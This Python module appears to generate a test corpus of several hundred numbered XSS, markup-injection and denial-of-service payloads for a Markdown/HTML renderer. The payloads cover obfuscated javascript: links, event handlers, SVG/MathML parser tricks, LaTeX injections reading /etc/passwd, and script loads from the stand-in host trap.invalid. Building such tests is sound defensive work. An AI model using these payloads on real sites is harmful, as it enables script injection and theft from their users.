"""More than five hundred texts that want to be more than text, all different, all made here.

Each is marked with a number and tries to run `window.broken(number)`, to reach the host `trap.invalid`, to
leave the page or to break out of the article that it stands in.
"""

from collections.abc import Iterator
from itertools import product

RUN = "window.broken&&window.broken({number})"
TRAP = "//trap.invalid/{number}"
SPELLINGS = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java\nscript:",
    "&#106;avascript:",
    "&#x6A;avascript&colon;",
    "javascript&Tab;:",
    "\x01javascript:",
    "\u00a0javascript:",
    "javascript\u200b:",
    "%6Aavascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "blob:",
    "feed:javascript:",
    "view-source:javascript:",
    "\\javascript:",
)
LINKS = (
    "[x]({address})",
    "[x](<{address}>)",
    '[x]({address} "t")',
    "![x]({address})",
    "[x][r]\n\n[r]: {address}",
    "[x][r]\n\n[r]: <{address}> 't'",
    "<{address}>",
    "[![x]({address})]({address})",
    '<a href="{address}">x</a>',
)
EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus autofocus tabindex=1",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "oncut",
    "onscrollend",
    "ONERROR",
    "on\nerror",
    "/onerror",
    "\x0conerror",
)
ELEMENTS = (
    "<img src=x {event}={code}>",
    "<svg {event}={code}></svg>",
    "<details open {event}={code}><summary>x</summary></details>",
    "<video src=x {event}={code}></video>",
    "<body {event}={code}>",
    "<input {event}={code}>",
    "<marquee {event}={code}>x</marquee>",
    "<x-y {event}={code}>x</x-y>",
)
TAGS = (
    "<script>{code}</script>",
    "<SCRIPT>{code}</SCRIPT >",
    "<scr<script>ipt>{code}</scr</script>ipt>",
    "<script src={trap}></script>",
    "<script type=module>import '{trap}'</script>",
    "<svg><script>{code}</script></svg>",
    "<svg><script href={trap} />",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={code}>#x'></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s></svg>",
    "<svg><a><set attributeName=href to=javascript:{code} /><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{code}</script>'></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=x onerror={code}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={code}></style></mglyph></table></mtext>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={code}></annotation-xml></math>",
    "<math href='javascript:{code}'><mi>x</mi></math>",
    "<math><maction actiontype='statusline#{trap}' xlink:href='javascript:{code}'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={code}>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'></noscript>",
    "<template><img src=x onerror={code}></template>",
    "<template shadowrootmode=open><img src=x onerror={code}></template>",
    "<style>@import '{trap}';</style>",
    "<style>*{{background:url({trap})}}</style>",
    "<link rel=stylesheet href={trap}>",
    "<link rel=prefetch href={trap}>",
    "<meta http-equiv=refresh content='0;url={trap}'>",
    "<base href={trap}>",
    "<iframe src={trap}></iframe>",
    "<iframe src='javascript:{code}'></iframe>",
    "<object data={trap}></object>",
    "<embed src={trap}>",
    "<form action={trap}><button autofocus>x</button></form>",
    "<isindex type=image src={trap} onerror={code}>",
    "<img src={trap}>",
    "<img srcset='{trap} 2x'>",
    "<picture><source srcset={trap}><img></picture>",
    "<video poster={trap}></video>",
    "<audio src={trap} autoplay></audio>",
    "<table background={trap}><tr><td>x</table>",
    "<p style='background:url({trap})'>x</p>",
    "<title><img src=x onerror={code}></title>",
    "<textarea><img src=x onerror={code}></textarea>",
    "<xmp><img src=x onerror={code}></xmp>",
    "<plaintext>{code}",
    "<select><option><img src=x onerror={code}></select>",
    "<frameset onload={code}>",
    "</article></main></body><script>{code}</script>",
    "</div></div></article><main id=main><h1>x</h1></main><nav>x</nav>",
    "<!--><img src=x onerror={code}>-->",
    "<!--!><img src=x onerror={code}>",
    "<?xml-stylesheet href={trap}?><img src=x onerror={code}>",
    "<![CDATA[<img src=x onerror={code}>]]>",
    "<dialog open>x<form method=dialog><button>x</button></form></dialog>",
    "<img id=body name=body><form name=getElementById><input name=querySelector></form>",
    "<a id=broken href=tel:1>x</a><a id=broken name=x>y</a>",
)
PLACES = (
    "{it}",
    "> {it}",
    "- {it}",
    "# {it}",
    "| a |\n|---|\n| {it} |",
    "::: tip {it}\nx\n:::",
    "::: warning\n{it}\n:::",
    "x[^1]\n\n[^1]: {it}",
    "x ^[{it}]",
    "**{it}**",
)
HIDDEN = (
    "```{it}\nx\n```",
    '```html "{it}"\nx\n```',
    "~~~ {it}\nx\n~~~",
    "    {it}",
    "`{it}`",
    "``` html\n{it}\n```",
    '![{it}](medien/a.png "{it}")',
    '![x"{it}](medien/a.png)',
    "[{it}](/kurse/ '{it}')",
    '[x](/kurse/?"{it})',
    '[x]: /kurse/ "{it}"\n\n[x]',
    "&lt;{it}&gt;",
    "\\{it}",
    "\u202e{it}\u202c",
    "\u2066{it}",
    "\ufeff\u2028{it}\u2029",
    "\x00{it}\x00",
    "$\\text{{{it}}}$",
    "$$\n{it}\n$$",
)
CONTENTS = (
    "<img src=x onerror={code}>",
    "<script>{code}</script>",
    "</code></pre></td></math><svg onload={code}>",
    '"><img src=x onerror={code}>',
    "' onmouseover={code} '",
)
FORMULAS = (
    "\\href{{javascript:{code}}}{{x}}",
    "\\url{{javascript:{code}}}",
    "\\style{{background:url({trap})}}{{x}}",
    "\\class{{site-header}}{{x}}",
    "\\cssId{{main}}{{x}}",
    "\\data{{x=1}}{{y}}",
    "\\includegraphics{{{trap}}}",
    "\\color{{red' onclick={code}}}x",
    "\\text{{</mtext></math><script>{code}</script>}}",
    "\\text{{<img src=x onerror={code}>}}",
    "\\unicode{{x3c}}script\\unicode{{x3e}}{code}",
    "\\begin{{array}}{{c}}</mtd><img src=x onerror={code}>\\end{{array}}",
    "\\def\\x{{\\x\\x}}\\x",
    "\\input{{/etc/passwd}}",
    "\\mathrm{{<svg onload={code}>}}",
)
HEAVY = (
    "> " * 900 + "x",
    "- " * 900 + "x",
    "*" * 3000 + "x",
    "[" * 3000 + "x" + "]" * 3000,
    "![" * 1500,
    "`" * 3000,
    "<" * 3000,
    "&" * 3000,
    "|" * 3000 + "\n" + "|-" * 1500,
    "$" * 3001,
    "\\" * 3001,
    "a_" * 1500,
    "**a " * 800,
    "[a](" * 800,
    "[^1]" * 800,
    "^[" * 800,
    "::: tip\n" * 60 + "x",
    "<a href='" * 500,
    "<!--" * 800,
    "&#x" + "0" * 3000 + "3c;script&#x3e;",
    "x" * 5000 + "@" + "y." * 500,
    "$" + "\\frac{1}{" * 200 + "$",
    "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "a\u0300" * 1500,
)


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_numbered()))


def _numbered() -> Iterator[str]:
    for number, source in enumerate(_sources()):
        code = RUN.replace("{number}", str(number))
        yield source.replace("{code}", code).replace(
            "{trap}", TRAP.replace("{number}", str(number))
        )


def _sources() -> Iterator[str]:
    for link, spelling in product(LINKS, SPELLINGS):
        yield link.replace("{address}", f"{spelling}{{code}}")
    for element, event in product(ELEMENTS, EVENTS):
        yield element.replace("{event}", event)
    for number, tag in enumerate(TAGS):
        yield _single_braces(tag)
        for place in (PLACES[number % len(PLACES)], PLACES[(number * 3 + 1) % len(PLACES)]):
            yield place.replace("{it}", _single_braces(tag))
    for hidden, content in product(HIDDEN, CONTENTS):
        yield _single_braces(hidden).replace("{it}", content)
    for formula in FORMULAS:
        yield f"${_single_braces(formula)}$"
        yield f"$$\n{_single_braces(formula)}\n$$"
    yield from HEAVY


def _single_braces(text: str) -> str:
    return text.replace("{{", "{").replace("}}", "}")
